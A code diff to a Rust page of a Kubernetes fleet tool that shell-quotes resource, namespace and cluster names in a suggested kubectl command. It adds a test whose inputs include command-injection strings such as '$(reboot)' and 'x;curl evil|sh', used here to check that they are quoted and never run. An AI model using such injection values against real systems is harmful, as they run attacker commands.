@@ -5,7 +5,7 @@ use fleet_core::apply::diff::{REDACTED, WHOLE_OBJECT};
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
 use maud::{Markup, html};
 
-use super::{Page, Site, parts};
+use super::{Page, Site, parts, typed::quoted};
 use crate::view::{Name, View};
 
 /// Clusters that differ; more than somebody compares at once.
@@ -26,7 +26,7 @@ pub(super) fn page(site: &Site<'_>, name: &Name) -> Page {
         .collect();
     differ.sort_by_key(|(cluster, _)| *cluster);
     let body = html! {
-        h1 { "Differences of " (parts::link(&View::Placement(name.clone(), 0), &name.shown())) }
+        h1 { "Differences of " (parts::link(&View::placement(name.clone()), &name.shown())) }
         @if differ.is_empty() {
             (parts::empty(site, "No member reports a difference: what is there is what the hub says.", ""))
         }
@@ -100,15 +100,14 @@ fn one(
 /// The command that asks the member itself who has written a field.
 fn who(id: &ResourceIdentifier, cluster: &str) -> String {
     let dot = if id.group.is_empty() { "" } else { "." };
-    let kind = id.kind.to_lowercase();
+    // What it is called is up to whoever made it: names of Roles, for one, may have any character.
+    let object = quoted(&format!("{}{dot}{}/{}", id.kind.to_lowercase(), id.group, id.name));
     let namespace = match id.namespace.as_str() {
         "" => String::new(),
-        namespace => format!(" -n {namespace}"),
+        namespace => format!(" -n {}", quoted(namespace)),
     };
-    format!(
-        "kubectl fleet why {kind}{dot}{}/{} {cluster}{namespace} --member-context {cluster}",
-        id.group, id.name
-    )
+    let cluster = quoted(cluster);
+    format!("kubectl fleet why {object} {cluster}{namespace} --member-context {cluster}")
 }
 
 /// Objects that could not be applied, or are not available.
@@ -146,4 +145,34 @@ fn value(id: &ResourceIdentifier, path: &str, value: &str) -> Markup {
         value => value,
     };
     html! { code { (shown) } }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_objects_are_called_is_never_run() {
+        let command = |kind: &str, name: &str| {
+            let id = ResourceIdentifier {
+                kind: kind.into(),
+                name: name.into(),
+                namespace: "shop".into(),
+                ..ResourceIdentifier::default()
+            };
+            who(&id, "east")
+        };
+        let end = "east -n shop --member-context east";
+        for (name, typed) in [
+            ("api", "role/api"),
+            ("$(reboot)", "'role/$(reboot)'"),
+            ("x;curl evil|sh", "'role/x;curl evil|sh'"),
+            ("a\nb", "'role/a\nb'"),
+            ("it's", r"'role/it'\''s'"),
+            ("-n", "role/-n"),
+        ] {
+            assert_eq!(command("Role", name), format!("kubectl fleet why {typed} {end}"));
+        }
+        assert!(command("A`b`", "x").contains("'a`b`/x'"));
+    }
 }
